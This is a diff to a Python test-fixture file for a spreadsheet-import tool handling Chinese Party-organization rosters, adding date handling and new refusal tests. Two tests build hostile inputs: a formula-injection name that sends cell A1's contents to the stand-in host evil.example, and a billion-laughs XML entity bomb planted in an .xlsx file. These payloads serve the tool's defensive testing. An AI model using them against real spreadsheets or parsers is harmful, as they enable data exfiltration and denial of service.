@@ -15,6 +15,7 @@ and the CLI (strict and ``--lenient``).
 """
 from __future__ import annotations
 
+import datetime as dt
 import io
 import random
 import zipfile
@@ -24,7 +25,7 @@ from typing import Any, Callable, Iterable
 
 import pandas as pd
 
-__all__ = ["Case", "P", "CASES", "Folder", "base", "ROSTER", "ROSTER_HEAD", "PAIRS", "PAIR_HEAD", "DIST", "DIST_HEAD",
+__all__ = ["Case", "P", "CASES", "Folder", "Sheet", "FORMULA_NAME", "base", "changed", "org_row", "roster_with", "ROSTER", "ROSTER_HEAD", "PAIRS", "PAIR_HEAD", "DIST", "DIST_HEAD",
            "HOSTILE_NAMES", "formula"]
 
 # --------------------------------------------------------------------------------------------
@@ -133,12 +134,16 @@ class Folder:
 
         path = self.root / name
         wb = xlsxwriter.Workbook(str(path), {"strings_to_numbers": False, "strings_to_formulas": False})
+        date_format = wb.add_format({"num_format": "yyyy-mm-dd"})
         for sh in sheets:
             ws = wb.add_worksheet(sh.name)
             for r, row in enumerate(sh.rows):
                 for c, v in enumerate(row):
                     if isinstance(v, Formula):
                         ws.write_formula(r, c, v.formula, None, v.cached if v.cached is not None else "")
+                    elif isinstance(v, (dt.date, dt.datetime)):
+                        ws.write_datetime(r, c, v if isinstance(v, dt.datetime) else dt.datetime(v.year, v.month, v.day),
+                                          date_format)
                     elif v is None or v == "":
                         continue
                     else:
@@ -727,6 +732,15 @@ def _(d: Path) -> None:
          pairs=[*PAIRS, ["青泥洞村党支部", HOSTILE_NAMES[0], "强村带弱村", "2024-05-01", ""]])
 
 
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此修正")'
+
+
+@case("formula_injection_name", "a pairing naming an org as a spreadsheet formula (=HYPERLINK…): reported as text",
+      expect=[P("unresolved_ref", PAIR_F, 2, "受援党组织", contains=(FORMULA_NAME,))], lenient={"Pairing": 1})
+def _(d: Path) -> None:
+    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(2, "受援党组织"): FORMULA_NAME}))
+
+
 # ---- file-level refusals ---------------------------------------------------------------------------
 
 @case("fake_xlsx", "a CSV renamed to .xlsx",
@@ -784,6 +798,23 @@ def _(d: Path) -> None:
                 fh.write(chunk)
 
 
+@case("xml_entity_bomb", "an .xlsx whose shared strings declare a billion-laughs entity (refused, not expanded)",
+      expect=[P("unreadable_file", "党组织名册2.xlsx", None, None, contains=("lol9",))], lenient={"Organization": 10})
+def _(d: Path) -> None:
+    f = base(d)
+    src = f.xlsx("src.xlsx", [Sheet("名册", [ROSTER_HEAD, *ROSTER])])
+    dtd = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
+        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)) + "]>"
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(d / "党组织名册2.xlsx", "w", zipfile.ZIP_DEFLATED) as zout:
+        for item in zin.infolist():
+            data = zin.read(item.filename)
+            if item.filename == "xl/sharedStrings.xml":
+                head, rest = data.decode("utf-8").split("?>", 1)
+                data = (head + "?>" + dtd + rest.replace("青泥洞村党支部", "&lol9;")).encode("utf-8")
+            zout.writestr(item, data)
+    src.unlink()
+
+
 # ---- settings and mappings ---------------------------------------------------------------------------
 
 @case("config_invalid_yaml", "graphkit.yaml that is not valid YAML",
@@ -820,6 +851,13 @@ def _(d: Path) -> None:
       expect=[P("encoding", ROSTER_F, None, None, contains=("gbk2312",))], lenient={"Organization": 0})
 def _(d: Path) -> None:
     base(d, config="county: 测试县\nfiles:\n  党组织名册.csv: {encoding: gbk2312}\n")
+
+
+@case("no_layout_recognized", "a folder whose only ledger has headers no layout knows (nothing would load)",
+      outcome="refuse", refuse="GraphkitError", refuse_contains=("mappings", "基层组织台账.csv"))
+def _(d: Path) -> None:
+    f = Folder(d)
+    f.csv("基层组织台账.csv", ["组织全称", "所在乡镇", "人数"], [["青泥洞村党支部", "中池镇", "28"]])
 
 
 @case("mapping_unknown_property", "a county mapping in DATA_DIR/mappings/ that maps an unknown property",
